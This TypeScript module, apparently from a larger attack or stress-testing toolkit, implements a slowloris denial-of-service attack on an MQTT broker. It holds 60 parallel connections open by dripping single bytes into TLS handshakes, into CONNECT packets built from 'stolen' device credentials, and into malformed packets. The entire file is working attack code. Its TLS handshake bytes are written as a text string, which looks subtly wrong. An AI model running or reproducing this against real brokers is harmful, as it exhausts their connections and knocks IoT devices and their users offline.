import { setTimeout as delay } from 'node:timers/promises'
import { generate } from 'mqtt-packet'
import type { Attack, AttackTarget } from './attack.ts'
import { connectPacket, RawLine } from './raw-line.ts'

const AT_ONCE = 60
const DRIP_MS = 500

/** Bytes one by one, so that the line stays busy with nothing. */
async function drip(line: RawLine, bytes: Uint8Array, signal: AbortSignal): Promise<void> {
  for (const byte of bytes) {
    if (signal.aborted || !line.socket.writable) return
    line.socket.write(Uint8Array.of(byte))
    await Promise.race([delay(DRIP_MS), line.ended])
  }
}

/** In the TLS handshake, in CONNECT, and in the middle of a packet, by turns. */
const PLACES: readonly ((target: AttackTarget, signal: AbortSignal) => Promise<RawLine>)[] = [
  async (target, signal) => {
    const line = RawLine.tcp(target, signal)
    await drip(line, Buffer.from('160301020001000', 'utf8'), signal)
    return line
  },
  async (target, signal) => {
    const line = RawLine.tls(target, signal, target.stolen.identity)
    await drip(line, generate(connectPacket(target.stolen.device)), signal)
    return line
  },
  async (target, signal) => {
    const line = await RawLine.entered(target, signal)
    await drip(line, Uint8Array.of(0x32, 0xff, 0x7f, 0, 10, ...Buffer.alloc(200)), signal)
    return line
  },
]

/** Lines that are never done with what they began. */
export const slowWriters: Attack = {
  name: 'slow-writers',
  zh: '慢速连接',
  en: 'slowloris: handshakes, CONNECTs and packets that never end',
  run: async (target, signal) => {
    let tried = 0
    await Promise.all(
      Array.from({ length: AT_ONCE }, async (_, place) => {
        while (!signal.aborted) {
          tried++
          const line = await PLACES[place % PLACES.length]?.(target, signal)
          await line?.close()
        }
      }),
    )
    return { tried, succeeded: 0 }
  },
}
